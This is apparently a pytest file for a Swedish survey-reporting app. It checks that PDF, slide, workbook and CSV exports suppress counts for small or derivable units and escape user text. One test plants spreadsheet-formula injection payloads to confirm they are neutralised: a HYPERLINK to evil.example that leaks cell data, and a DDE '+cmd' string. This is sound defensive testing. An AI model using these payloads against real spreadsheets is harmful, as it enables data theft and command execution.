"""Each export, made and read back: the PDF through pdftotext and pdftoppm, the deck through
python-pptx, the workbook through openpyxl, the CSV files through the csv module. And every
export tried with a unit below the threshold (Arbetsmiljö, 3 answers) and a unit whose size could
be derived by subtraction (Lön och pension: HR-avdelningen shows 11, so showing its 8 would
reveal Arbetsmiljö's 3): neither has a number in any export."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pptx import Presentation

from kartbild.reports.exports import ExportFile, gather, renderer
from kartbild.reports.exports.content import no_progress
from kartbild.reports.guides import render_guide_pdf
from kartbild.reports.tests.helpers import withheld_world

pytestmark = pytest.mark.django_db

HIDDEN = ("Arbetsmiljö", "Lön och pension")


@pytest.fixture
def world(organisation_a: Any, make_mapping: Any) -> dict[str, Any]:
    return withheld_world(organisation_a, make_mapping)


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    path = tmp_path / "export.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout


def pdf_pages(pdf: bytes, tmp_path: Path) -> list[Path]:
    """The PDF rendered to PNG, one file a page, as a person would look at it."""
    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed")
    path = tmp_path / "pages.pdf"
    path.write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "30", "-png", str(path), str(tmp_path / "page")], check=True)
    return sorted(tmp_path.glob("page-*.png"))


def deck_texts(export: ExportFile) -> list[list[str]]:
    deck = Presentation(io.BytesIO(export.content))
    return [
        [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]
        for slide in deck.slides
    ]


def workbook_rows(export: ExportFile) -> dict[str, list[tuple[Any, ...]]]:
    workbook = load_workbook(io.BytesIO(export.content))
    return {
        sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def csv_tables(export: ExportFile) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        return {
            name: list(
                csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=";")
            )
            for name in archive.namelist()
        }


def test_the_workbook_reads_back_with_the_gated_tables(world: dict[str, Any]) -> None:
    export = renderer("xlsx")(gather(world["mapping"]), no_progress)
    assert export.filename.endswith(".xlsx")
    sheets = workbook_rows(export)
    assert {"Översikt", "Topplistor", "Nivåer", "Enheter", "Skillnader", "Visas inte"} <= set(
        sheets
    )
    # Employees' current culture, counted by hand: byråkrati was picked by the 3 of Arbetsmiljö
    # and the 10 of Skolan, 13 of 21 employees.
    byrakrati = [
        row
        for row in sheets["Topplistor"]
        if row[0] == "Medarbetare"
        and row[1]
        and str(row[1]).startswith("Rådande")
        and row[3] == "Byrakrati"
    ]
    assert len(byrakrati) == 1
    assert byrakrati[0][6] == 13
    assert byrakrati[0][7] == pytest.approx(13 / 21)
    overview = {row[0]: row for row in sheets["Översikt"][3:]}
    assert overview["Medarbetare"][1] == 21
    assert overview["Medborgare"][1] == 6


def test_the_csv_zip_has_one_file_per_table(world: dict[str, Any]) -> None:
    export = renderer("csv")(gather(world["mapping"]), no_progress)
    tables = csv_tables(export)
    assert (
        len(tables)
        == len(workbook_rows(renderer("xlsx")(gather(world["mapping"]), no_progress))) - 1
    )
    units = next(rows for name, rows in tables.items() if "enheter" in name)
    assert units[0][0] == "Enhet"
    school = next(row for row in units if row[0] == "Skolan")
    assert school[2] == "10"


def test_the_pdf_has_cover_summary_method_and_the_perspective_pages(
    world: dict[str, Any], tmp_path: Path
) -> None:
    export = renderer("pdf")(gather(world["mapping"]), no_progress)
    assert export.content.startswith(b"%PDF")
    text = pdf_text(export.content, tmp_path)
    for heading in ("Kartläggning 2026", "Sammanfattning", "Så har kartbilden tagits fram"):
        assert heading in text
    assert "Medarbetare" in text and "Medborgare" in text
    assert "21 svarande" in text and "6 svarande" in text
    # Cover, summary, method, one chapter a perspective, comparisons: at least six pages.
    pages = pdf_pages(export.content, tmp_path)
    assert len(pages) >= 6
    assert all(page.stat().st_size > 1000 for page in pages)


def test_the_deck_has_one_message_per_slide_and_charts_with_alt_text(world: dict[str, Any]) -> None:
    export = renderer("pptx")(gather(world["mapping"]), no_progress)
    deck = Presentation(io.BytesIO(export.content))
    titles = [slide.shapes.title.text for slide in deck.slides if slide.shapes.title is not None]
    assert len(titles) == len(deck.slides)
    assert "Medarbetarna ser Byrakrati, Tillit och Oppenhet som en del av kulturen idag" in titles
    pictures = [shape for slide in deck.slides for shape in slide.shapes if shape.shape_type == 13]
    assert pictures
    for picture in pictures:
        assert len(picture._element.nvPicPr.cNvPr.get("descr", "")) > 20


def numbers_near(text: str, label: str) -> list[str]:
    """Digits on the lines of `text` that mention `label`."""
    return [d for line in text.splitlines() if label in line for d in re.findall(r"\d+", line)]


def test_no_export_has_a_number_for_the_small_or_the_derivable_unit(
    world: dict[str, Any], tmp_path: Path
) -> None:
    content = gather(world["mapping"])
    withheld = {w.label: w.explanation for w in content.withheld}
    assert set(HIDDEN) <= set(withheld)

    text = pdf_text(renderer("pdf")(content, no_progress).content, tmp_path)
    for label in HIDDEN:
        assert label in text
        assert numbers_near(text, label) == [], label

    for slide in deck_texts(renderer("pptx")(content, no_progress)):
        for label in HIDDEN:
            assert numbers_near("\n".join(slide), label) == [], label

    for sheet, rows in workbook_rows(renderer("xlsx")(content, no_progress)).items():
        for row in rows:
            if any(cell in HIDDEN for cell in row):
                assert not any(isinstance(c, int | float) for c in row[2:]), (sheet, row)

    for name, lines in csv_tables(renderer("csv")(content, no_progress)).items():
        for line in lines:
            if line and line[0] in HIDDEN:
                assert not any(re.search(r"\d", c) for c in line[2:]), (name, line)

    # Exports of the two units themselves: the reason, and no number at all.
    for hidden in (world["small"], world["derivable"]):
        content = gather(world["mapping"], hidden)
        assert not content.report.perspectives[0].shown
        text = pdf_text(renderer("pdf")(content, no_progress).content, tmp_path)
        assert "för få svar för att visa" in text
        assert not re.search(r"\d+ svarande", text)
        sheets = workbook_rows(renderer("xlsx")(content, no_progress))
        rows = [row for row in sheets["Topplistor"][3:] if any(c is not None for c in row)]
        assert [row[0] for row in rows] == ["Inget att visa."]
        for slide in deck_texts(renderer("pptx")(content, no_progress))[1:]:
            joined = "\n".join(slide)
            assert not re.search(r"\d+\s*%", joined), joined
        guide = render_guide_pdf(content, "medarbetare", no_progress)
        guide_text = pdf_text(guide.content, tmp_path)
        assert "visas inte" in guide_text
        assert not re.search(r"\d+\s*%|valt av", guide_text)


def test_spreadsheet_cells_never_start_a_formula(
    organisation_a: Any, make_mapping: Any, world: dict[str, Any]
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    world["school"].name = attack
    world["school"].save()
    mapping = world["mapping"]
    mapping.name = "+cmd|' /C calc'!A0"
    mapping.save()
    content = gather(mapping)
    cells = [
        cell
        for sheet in load_workbook(
            io.BytesIO(renderer("xlsx")(content, no_progress).content)
        ).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert not [c for c in cells if c.data_type == "f"]
    attacked = [c for c in cells if c.value == attack]
    assert attacked and all(c.data_type == "s" and c.quotePrefix for c in attacked)
    assert [c for c in cells if c.value == mapping.name]
    for rows in csv_tables(renderer("csv")(content, no_progress)).values():
        for row in rows:
            for cell in row:
                # A negative number is a number; any other text must not start a formula.
                if not re.fullmatch(r"-\d+(,\d+)?", cell):
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(
        cell == "'" + attack
        for rows in csv_tables(renderer("csv")(content, no_progress)).values()
        for row in rows
        for cell in row
    )


def test_user_text_is_escaped_in_the_pdf_and_the_slides(
    world: dict[str, Any], tmp_path: Path
) -> None:
    mapping = world["mapping"]
    mapping.name = "<b>Kart</b> & <script>x</script>"
    mapping.save()
    content = gather(mapping)
    text = pdf_text(renderer("pdf")(content, no_progress).content, tmp_path)
    assert "<b>Kart</b> & <script>x</script>" in text
    titles = [slide[0] for slide in deck_texts(renderer("pptx")(content, no_progress)) if slide]
    assert titles[0] == mapping.name
